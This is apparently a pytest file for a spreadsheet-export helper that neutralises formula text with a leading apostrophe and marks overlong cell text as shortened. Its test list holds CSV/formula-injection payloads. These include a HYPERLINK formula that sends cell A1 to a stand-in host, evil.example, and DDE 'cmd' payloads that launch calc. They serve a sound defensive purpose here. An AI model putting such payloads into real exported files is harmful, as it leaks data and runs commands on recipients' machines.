"""Every cell xlsheets writes goes through xlsheets.cell_text: formula text is neutralised with
a leading apostrophe, and text longer than a cell says it was shortened instead of losing its
end silently."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from xlsheets.cell_text import EXCEL_CELL_CHARS, cell_text, neutralize

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+CMD|' /C CALC'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\n=1+1", "\uff1d1+1", "=cmd|'/c calc'!A0"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_an_apostrophe(text):
    assert neutralize(text) == "'" + text
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("value", [-5, 3.5, None, True, "M54.17", "-5", "+1.5", "", "a=b", "  ", "1e5"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert neutralize(value) == value and type(neutralize(value)) is type(value)


def test_neutralised_text_stays_text_after_a_round_trip_through_csv(tmp_path):
    """What the audit did: the text saved as CSV and read back by a spreadsheet program is
    still text; openpyxl stores a string starting with '=' as a formula, so it is the judge."""
    buf = io.StringIO()
    csv.writer(buf).writerows([[cell_text(t)] for t in ATTACKS])
    wb = openpyxl.Workbook()
    for (value,) in csv.reader(io.StringIO(buf.getvalue())):
        wb.active.append([value])
    wb.save(tmp_path / "back.xlsx")
    back = openpyxl.load_workbook(tmp_path / "back.xlsx").active
    assert all(c.data_type == "s" and c.value.startswith("'") for (c,) in back.iter_rows())


def test_a_full_cell_that_gets_the_apostrophe_says_it_was_shortened():
    text = "=" + "A" * (EXCEL_CELL_CHARS - 2) + "Z"  # exactly a full cell, ending in Z
    out = cell_text(text)
    assert len(out) <= EXCEL_CELL_CHARS
    assert out.startswith("'=")
    assert out.endswith("characters do not fit in a cell]") and "32,768" in out


def test_text_that_fits_is_kept_whole():
    text = "x" * EXCEL_CELL_CHARS
    assert cell_text(text) == text


def test_an_object_that_cannot_be_text_still_gives_cell_text():
    class Hostile:
        def __str__(self):
            raise RuntimeError("no")
    assert "Hostile" in cell_text(Hostile())
